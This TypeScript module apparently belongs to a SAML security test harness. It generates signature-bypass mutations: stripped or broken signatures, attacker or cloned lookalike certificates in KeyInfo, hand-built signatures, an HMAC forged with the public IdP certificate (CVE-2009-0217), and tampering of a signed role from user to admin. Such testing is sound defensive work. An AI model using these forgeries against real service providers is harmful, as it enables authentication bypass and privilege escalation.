/**
 * @module Signature mutations (docs/attacks.md §A, §D, XSW-12, C14N-10/11): strip or break signatures,
 * change the untrusted key material in KeyInfo (it is outside SignedInfo, so the signature still
 * verifies with the key that made it), re-sign with another canonicalization, and build signatures by
 * hand where xml-crypto cannot (HMAC, MD5, odd algorithm URIs, `URI=""`, extra transforms).
 */
import { createHmac, createPublicKey, sign as rsaSign } from 'node:crypto';
import type { Document, Element } from '@xmldom/xmldom';
import { certificateBase64, cloneCertificate, signInPlace } from '../../mock-idp/internal.js';
import type { DomMutation, KeyPair, MutationContext } from '../types.js';
import {
  DSIG_NS,
  SAML_NS,
  all,
  child,
  insertAfter,
  one,
  remove,
  replaceText,
  rootOf,
  signatureOf,
} from './dom.js';
import { DIGEST_URI, digestOf, excC14n, type Hash } from './c14n.js';

export type SignedPart = 'assertion' | 'response';

export const SIGNATURE_METHOD = {
  rsaSha256: 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256',
  rsaMd5: 'http://www.w3.org/2001/04/xmldsig-more#rsa-md5',
  hmacSha1: 'http://www.w3.org/2000/09/xmldsig#hmac-sha1',
  ecdsaSha256: 'http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256',
} as const;
export const TRANSFORM = {
  enveloped: 'http://www.w3.org/2000/09/xmldsig#enveloped-signature',
  excC14n: 'http://www.w3.org/2001/10/xml-exc-c14n#',
  xpath: 'http://www.w3.org/TR/1999/REC-xpath-19991116',
} as const;

function dom(name: string, apply: (doc: Document, ctx: MutationContext) => void): DomMutation {
  return { name, stage: 'after-sign', apply };
}

function partElement(doc: Document, part: SignedPart): Element {
  if (part === 'assertion') return one(doc, 'Assertion');
  const response = rootOf(doc);
  if (response.localName !== 'Response') throw new Error('the root is not a Response');
  return response;
}

function partSignature(doc: Document, part: SignedPart): Element {
  const signature = signatureOf(partElement(doc, part));
  if (!signature) throw new Error(`the ${part} is not signed`);
  return signature;
}

/** SIG-02: every ds:Signature removed. */
export function stripSignatures(): DomMutation {
  return dom('remove every Signature', (doc) => {
    const signatures = all(doc, 'Signature').filter((s) => s.namespaceURI === DSIG_NS);
    if (signatures.length === 0) throw new Error('no Signature to strip');
    signatures.forEach(remove);
  });
}

/** SIG-03: only the given part's Signature removed. */
export function removeSignature(part: SignedPart): DomMutation {
  return dom(`remove the ${part} Signature`, (doc) => remove(partSignature(doc, part)));
}

/** SIG-13: a structurally broken Signature (no SignedInfo, empty SignatureValue, no Reference). */
export function breakSignature(
  part: SignedPart,
  how: 'no-signed-info' | 'empty-signature-value' | 'no-reference',
): DomMutation {
  return dom(`${part} Signature: ${how}`, (doc) => {
    const signature = partSignature(doc, part);
    if (how === 'no-signed-info') remove(one(signature, 'SignedInfo'));
    else if (how === 'no-reference') remove(one(signature, 'Reference'));
    else {
      const value = one(signature, 'SignatureValue');
      while (value.firstChild) value.removeChild(value.firstChild);
    }
  });
}

/** What KeyInfo may carry instead of the signer's own certificate. */
export type KeyMaterial =
  'idp-certificate' | 'attacker-certificate' | 'idp-lookalike-certificate' | 'attacker-key-value';

/** SIG-07b..11: KeyInfo replaced (or removed with 'none'); certificates share one X509Data, in order. */
export function replaceKeyInfo(part: SignedPart, content: readonly KeyMaterial[] | 'none'): DomMutation {
  return dom(`${part} KeyInfo: ${content === 'none' ? 'removed' : content.join(' + ')}`, (doc, ctx) => {
    const keyInfo = one(partSignature(doc, part), 'KeyInfo');
    if (content === 'none') return remove(keyInfo);
    while (keyInfo.firstChild) keyInfo.removeChild(keyInfo.firstChild);
    const ds = (name: string, text?: string): Element => {
      const el = doc.createElementNS(DSIG_NS, name);
      if (text !== undefined) el.appendChild(doc.createTextNode(text));
      return el;
    };
    let x509: Element | undefined;
    for (const item of content) {
      if (item === 'attacker-key-value') {
        const jwk = createPublicKey(ctx.keys.attacker.privateKey).export({ format: 'jwk' });
        const b64 = (v: string | undefined): string => Buffer.from(v ?? '', 'base64url').toString('base64');
        const rsa = ds('RSAKeyValue');
        rsa.appendChild(ds('Modulus', b64(jwk.n)));
        rsa.appendChild(ds('Exponent', b64(jwk.e)));
        keyInfo.appendChild(ds('KeyValue')).appendChild(rsa);
        x509 = undefined;
        continue;
      }
      const pem =
        item === 'idp-certificate'
          ? ctx.keys.idp.certificatePem
          : item === 'attacker-certificate'
            ? ctx.keys.attacker.certificatePem
            : lookalikeCertificate(ctx.keys.idp.certificatePem, ctx.keys.attacker);
      x509 ??= keyInfo.appendChild(ds('X509Data')) as Element;
      x509.appendChild(ds('X509Certificate', certificateBase64(pem)));
    }
  });
}

const lookalikes = new Map<string, string>();

/**
 * SIG-07b, SAML Raider's "clone certificate": K's subject, issuer, serial and validity, but K''s
 * public key, self-signed by K'. Only the key tells it apart from the pinned certificate.
 */
export function lookalikeCertificate(templatePem: string, attacker: KeyPair): string {
  const cacheKey = `${templatePem}|${attacker.certificatePem}`;
  const cached = lookalikes.get(cacheKey);
  if (cached) return cached;
  const keyPem = attacker.privateKey.export({ type: 'pkcs8', format: 'pem' }).toString();
  const pem = cloneCertificate(templatePem, keyPem);
  lookalikes.set(cacheKey, pem);
  return pem;
}

/** C14N-10: the part's signature replaced by one K makes with another canonicalization method. */
export function resign(part: SignedPart, canonicalization: string): DomMutation {
  return dom(`re-sign the ${part} with ${canonicalization}`, (doc, ctx) => {
    const element = partElement(doc, part);
    const id = element.getAttribute('ID');
    if (!id) throw new Error(`the ${part} has no ID`);
    remove(partSignature(doc, part));
    signInPlace(doc, { key: ctx.keys.idp, algorithm: 'sha256', elementId: id, canonicalization });
  });
}

export type TransformSpec = string | { xpath: string; namespaces: Readonly<Record<string, string>> };

/** A signature built element by element (default-namespace ds, after the Issuer, like Entra's). */
export interface HandSignature {
  /** `#ID` of the signed element (default) or `""`, the whole document (XSW-12). */
  uri?: 'id' | 'document';
  /** Default [enveloped-signature, exc-c14n]. */
  transforms?: readonly TransformSpec[];
  /** Hash used for the digest; default sha256. `digestMethod` may claim another URI. */
  digest?: Hash;
  digestMethod?: string;
  /** Subtrees the digest leaves out (what an XPath filter transform excludes). */
  exclude?: readonly string[];
  signatureMethod: string;
  hmacOutputLength?: number;
  /** SignatureValue (base64) over the canonical SignedInfo. */
  sign(signedInfo: string, ctx: MutationContext): string;
}

/** Replaces the part's signature (if any) with a hand-built one; KeyInfo carries K's certificate. */
export function signByHand(part: SignedPart, spec: HandSignature): DomMutation {
  return dom(`hand-made ${part} signature (${spec.signatureMethod})`, (doc, ctx) => {
    const element = partElement(doc, part);
    remove(signatureOf(element));
    const issuer = child(element, 'Issuer');
    if (!issuer || issuer.namespaceURI !== SAML_NS) throw new Error(`the ${part} has no Issuer`);
    const ds = (name: string, attrs: Record<string, string> = {}, ...kids: (Element | string)[]): Element => {
      const el = doc.createElementNS(DSIG_NS, name);
      for (const [k, v] of Object.entries(attrs)) el.setAttribute(k, v);
      for (const kid of kids) el.appendChild(typeof kid === 'string' ? doc.createTextNode(kid) : kid);
      return el;
    };
    const transforms = (spec.transforms ?? [TRANSFORM.enveloped, TRANSFORM.excC14n]).map((t) => {
      if (typeof t === 'string') return ds('Transform', { Algorithm: t });
      const xpath = ds('XPath', {}, t.xpath);
      for (const [prefix, uri] of Object.entries(t.namespaces))
        xpath.setAttributeNS('http://www.w3.org/2000/xmlns/', `xmlns:${prefix}`, uri);
      return ds('Transform', { Algorithm: TRANSFORM.xpath }, xpath);
    });
    const method = ds('SignatureMethod', { Algorithm: spec.signatureMethod });
    if (spec.hmacOutputLength !== undefined)
      method.appendChild(ds('HMACOutputLength', {}, String(spec.hmacOutputLength)));
    const hash = spec.digest ?? 'sha256';
    const uri = spec.uri === 'document' ? '' : `#${element.getAttribute('ID') ?? ''}`;
    const signedInfo = ds(
      'SignedInfo',
      {},
      ds('CanonicalizationMethod', { Algorithm: TRANSFORM.excC14n }),
      method,
      ds(
        'Reference',
        { URI: uri },
        ds('Transforms', {}, ...transforms),
        ds('DigestMethod', { Algorithm: spec.digestMethod ?? DIGEST_URI[hash] }),
        ds('DigestValue', {}, digestOf(element, hash, spec.exclude)),
      ),
    );
    const value = ds('SignatureValue');
    const keyInfo = ds(
      'KeyInfo',
      {},
      ds('X509Data', {}, ds('X509Certificate', {}, certificateBase64(ctx.keys.idp.certificatePem))),
    );
    const signature = ds('Signature', {}, signedInfo, value, keyInfo);
    insertAfter(signature, issuer);
    value.appendChild(doc.createTextNode(spec.sign(excC14n(signedInfo), ctx)));
  });
}

/** RSA with K over SignedInfo using `hash`, whatever SignatureMethod claims. */
export function rsaWithIdpKey(hash: Hash): HandSignature['sign'] {
  return (signedInfo, ctx) =>
    rsaSign(hash, Buffer.from(signedInfo, 'utf8'), ctx.keys.idp.privateKey).toString('base64');
}

/** How an SP may hold the IdP certificate as text (ALG-01 tries each as the HMAC key). */
export type PemForm = 'pem' | 'pem-trimmed' | 'pem-crlf';

export function pemAs(form: PemForm, pem: string): string {
  const lf = pem.replace(/\r\n/g, '\n');
  return form === 'pem' ? lf : form === 'pem-trimmed' ? lf.trim() : lf.replace(/\n/g, '\r\n');
}

/**
 * ALG-01/02 (GHSA-c27r-x354-4m68, CVE-2009-0217): an HMAC-SHA1 "signature" keyed with the IdP
 * certificate PEM, which is public; `outputLength` 0 declares a zero-bit HMAC and sends no value.
 */
export function hmacWithCertificate(part: SignedPart, form: PemForm, outputLength?: number): DomMutation {
  return signByHand(part, {
    signatureMethod: SIGNATURE_METHOD.hmacSha1,
    ...(outputLength === undefined ? {} : { hmacOutputLength: outputLength }),
    sign: (signedInfo, ctx) =>
      outputLength === 0
        ? ''
        : createHmac('sha1', pemAs(form, ctx.keys.idp.certificatePem))
            .update(signedInfo, 'utf8')
            .digest('base64'),
  });
}

/** SIG-06: after signing, every text node `from` becomes `to` (e.g. a role claim `user` → `admin`). */
export function tamperText(from: string, to: string): DomMutation {
  return dom(`tamper "${from}" → "${to}"`, (doc) => {
    if (replaceText(rootOf(doc), from, to) === 0) throw new Error(`no text node equals "${from}"`);
  });
}
